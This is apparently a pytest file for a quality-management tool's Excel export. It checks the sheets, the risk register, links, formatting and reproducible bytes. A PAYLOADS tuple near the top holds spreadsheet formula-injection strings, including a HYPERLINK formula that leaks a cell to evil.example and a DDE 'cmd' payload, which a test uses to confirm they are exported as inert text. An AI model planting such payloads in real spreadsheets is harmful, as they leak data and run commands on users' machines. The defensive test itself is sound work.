"""``qms export xlsx``: the sheets, what the cells hold, formula safety, and reproducible bytes."""

from __future__ import annotations

import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from fixtures.excel.workbooks import NO_CHANGES, column, committed, fixture_project, qms_in, row, value
from openpyxl import load_workbook

from qms.excel.export import workbook_bytes
from qms.project import load_project

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=1+1",
    "#N/A",
)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return fixture_project(tmp_path_factory.mktemp("export"))


@pytest.fixture(scope="module")
def workbook(project: Path) -> Path:
    path = project.parent / "records.xlsx"
    result = qms_in(project, "export", "xlsx", str(path))
    assert (result.exit_code, result.output) == (0, f"wrote {path}: 15 items\n")
    return path


def test_sheets_summary_then_one_per_kind_the_risk_register_and_the_matrices(workbook: Path) -> None:
    assert load_workbook(workbook).sheetnames == [
        "Summary",
        "User needs",
        "System requirements",
        "Software requirements",
        "Software items",
        "SOUP",
        "Hazards",
        "Risk register",
        "Tests",
        "Anomalies",
        "Software units",
        "Problem reports",
        "Change requests",
        "Design reviews",
        "Causes",
        "Safety characteristics",
        "Labelling",
        "Reviews of risk controls",
        "Trace matrix",
        "Risk trace",
        "qms-exported rows",  # hidden: the rows this export wrote, for --delete-missing
    ]


def test_a_kind_sheet_holds_every_field_of_the_schema_then_extensions_then_the_file(workbook: Path) -> None:
    book = load_workbook(workbook)
    headers = [cell.value for cell in book["System requirements"][1]]
    assert headers == [
        "id",
        "title",
        "text",
        "rationale",
        "derived",
        "control_type",
        "derives_from",
        "type",
        "x-owner",
        "x-priority",
        "file",
        "qms-exported",
    ]
    sheet = book["System requirements"]
    assert [cell.value for cell in sheet[3]][:11] == [
        "SYS-2",
        "Fail towards the scheduled basal",
        "The system shall fall back to the scheduled basal rate when a reading is missing.",
        None,
        None,
        "protective_measure",
        "NEED-2",
        None,
        None,
        "1",
        "items/requirements.yaml",
    ]
    assert value(book["SOUP"], "SOUP-1", "known_anomalies") == (
        "- ref: ISSUE-12\n  evaluation: Affects complex numbers only; not used."
    )
    assert value(book["SOUP"], "SOUP-1", "version") == "2.10"
    assert value(book["Tests"], "TST-1", "steps") == "Feed a reading 13 minutes old.\nRun one dosing cycle."


def test_the_risk_register_reads_as_risk_engineers_read_one(workbook: Path) -> None:
    sheet = load_workbook(workbook)["Risk register"]
    assert [cell.value for cell in sheet[1]][:15] == [
        "ID",
        "Category",
        "Title",
        "Hazard",
        "Sequence of events",
        "Hazardous situation",
        "Harm",
        "Initial severity",
        "Initial probability",
        "Initial risk",
        "Risk controls",
        "Residual severity",
        "Residual probability",
        "Residual risk",
        "Benefit-risk",
    ]
    haz_2 = ["Critical", "Remote", "R", "SWR-3", "Critical", "Improbable", "R"]
    assert [cell.value for cell in sheet[3]][7:14] == haz_2
    initial, residual = sheet["J2"], sheet["N2"]
    assert (initial.value, initial.fill.fgColor.rgb, initial.font.color.rgb) == ("U", "00FFC7CE", "009C0006")
    assert (residual.value, residual.fill.fgColor.rgb) == ("A", "00C6EFCE")
    assert sheet["J1"].fill.fgColor.rgb == "00808080"  # computed: a grey header


def test_links_are_ids_separated_by_commas_that_jump_to_the_linked_row(workbook: Path) -> None:
    book = load_workbook(workbook)
    sheet = book["Software items"]
    cell = sheet.cell(row(sheet, "SI-1"), column(sheet, "implements"))
    assert cell.value == "SWR-1, SWR-2, SWR-3"
    assert cell.hyperlink.location == "'Software requirements'!A2"
    assert book["Software requirements"]["A2"].value == "SWR-1"


def test_sheets_are_pleasant_frozen_filtered_sized_wrapped(workbook: Path) -> None:
    sheet = load_workbook(workbook)["Hazards"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:V3"
    assert sheet.column_dimensions["V"].hidden is True  # the fingerprints
    assert sheet.column_dimensions["C"].width == 60  # hazard: prose
    assert sheet.cell(2, 3).alignment.wrap_text is True
    assert sheet.cell(1, 7).comment.text == "Severity of the harm (risk policy level)."
    levels = next(validation for validation in sheet.data_validations.dataValidation if "G2" in str(validation.sqref))
    assert levels.formula1 == '"Negligible,Minor,Serious,Critical,Catastrophic"'


def test_matrices_and_summary(workbook: Path) -> None:
    book = load_workbook(workbook)
    trace = book["Trace matrix"]
    assert [cell.value for cell in trace[1]] == [
        "User needs",
        "System requirements",
        "Software requirements",
        "Software items",
        "Tests",
        "Verification",
    ]
    validation = ["NEED-2 Never cause a dangerous low", None, None, None, "VAL-1 Time in range study", "passed"]
    assert [cell.value for cell in trace[13]] == validation
    assert [cell.value for cell in book["Risk trace"][2]] == [
        "HAZ-1 Stale reading used for dosing",
        "SWR-1 Reject stale readings",
        "TST-1 Stale reading rejected",
        "passed",
    ]
    summary = book["Summary"]
    assert summary["A1"].value == "Round Trip Device: design and risk records"
    assert summary["A7"].value == "Source"
    assert re.fullmatch(r"commit [0-9a-f]{10} of 2025-03-04T05:06:07\+00:00", summary["B7"].value)
    assert (summary["A9"].value, summary["B9"].value) == (
        "Verification",
        "5 of 5 requirements verified (100 %)",
    )


def formula_project(tmp_path: Path) -> Path:
    root = tmp_path / "formulas"
    (root / "items").mkdir(parents=True)
    (root / "qms.yaml").write_text("device:\n  name: Formulas\n  software_safety_class: A\nsources: [items]\n")
    lines = ["kind: need", "items:"]
    for number, payload in enumerate(PAYLOADS, start=1):
        quoted = payload.replace("'", "''")
        lines += [f"  - id: NEED-{number}", *(f"    {name}: '{quoted}'" for name in ("title", "text", "x-note"))]
    (root / "items/needs.yaml").write_text("\n".join(lines) + "\n")
    return root


def test_item_text_that_looks_like_a_formula_is_written_as_text(tmp_path: Path) -> None:
    root = formula_project(tmp_path)
    path = tmp_path / "formulas.xlsx"
    assert qms_in(root, "export", "xlsx", str(path)).exit_code == 0

    with zipfile.ZipFile(path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        xml = "".join(archive.read(name).decode() for name in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml
    sheet = load_workbook(path)["User needs"]
    for number, payload in enumerate(PAYLOADS, start=2):
        for index in (2, 3, 6):
            cell = sheet.cell(number, index)
            assert (cell.value, cell.data_type) == (payload, "s")
        assert sheet.cell(number, 2).quotePrefix is (payload[0] in "=+-@")
    assert qms_in(root, "import", "xlsx", str(path)).output == NO_CHANGES + "\n"


def test_the_same_commit_gives_the_same_bytes_in_any_process(project: Path, workbook: Path, tmp_path: Path) -> None:
    again = tmp_path / "again.xlsx"
    command = [sys.executable, "-m", "qms", "export", "xlsx", str(again)]
    subprocess.run(command, cwd=project, check=True, capture_output=True)

    assert again.read_bytes() == workbook.read_bytes()
    assert workbook_bytes(load_project(project)) == workbook.read_bytes()
    with zipfile.ZipFile(workbook) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert {info.date_time for info in archive.infolist()} == {(2025, 3, 4, 5, 6, 6)}
    assert re.findall(r"<dcterms:(\w+)[^>]*>([^<]+)<", core) == [
        ("created", "2025-03-04T05:06:07Z"),
        ("modified", "2025-03-04T05:06:07Z"),
    ]


def test_outside_git_the_date_is_fixed(tmp_path: Path) -> None:
    root = formula_project(tmp_path)

    data = workbook_bytes(load_project(root))

    assert data == workbook_bytes(load_project(root))
    path = tmp_path / "book.xlsx"
    path.write_bytes(data)
    with zipfile.ZipFile(path) as archive:
        assert "<dcterms:created" in archive.read("docProps/core.xml").decode()
        assert "1980-01-01T00:00:00Z" in archive.read("docProps/core.xml").decode()
    committed(root)
    assert workbook_bytes(load_project(root)) != data
